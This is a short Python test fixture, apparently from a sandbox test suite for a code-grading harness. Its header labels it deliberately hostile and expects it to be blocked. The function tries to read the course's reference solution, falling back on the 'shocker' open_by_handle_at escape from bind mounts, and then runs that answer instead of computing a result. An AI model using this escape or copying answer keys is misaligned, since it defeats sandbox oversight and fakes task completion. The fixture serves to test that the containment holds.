# what: causal_pairs reads the course's reference solution (@@COURSE@@) by path, and failing
# that through open_by_handle_at: a handle to the file system's root inode (2 on ext4) opened
# through the mount of its own folder walks past every bind mount (the "shocker" escape,
# possible with CAP_DAC_READ_SEARCH, e.g. as root inside bubblewrap)
# category: read
# requires: handle-escape
# expect-lost: causal_pairs
# expect-feedback: returned -1
# modes: bubblewrap
# limited-breaks: raised
# ruff: noqa  (deliberately hostile code)
import ctypes
import os
import struct


class _Handle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * 8)]


def _root_fd():
    libc = ctypes.CDLL(None, use_errno=True)
    mount_fd = os.open(os.getcwd(), os.O_RDONLY | os.O_DIRECTORY)
    root = _Handle(8, 1)  # FILEID_INO32_GEN: inode 2, any generation
    struct.pack_into("<II", root.f_handle, 0, 2, 0)
    fd = libc.open_by_handle_at(mount_fd, ctypes.byref(root), os.O_RDONLY | os.O_DIRECTORY)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")
    return fd


def _read(path):
    try:
        with open(path) as stream:
            return stream.read()
    except OSError:
        pass
    fd = os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=_root_fd())
    with os.fdopen(fd) as stream:
        return stream.read()


def causal_pairs(P):
    try:
        source = _read("@@COURSE@@/solutions/prefill/prefill.py")
    except OSError:
        return -1
    namespace = {}
    exec(source, namespace)
    return namespace["causal_pairs"](P)
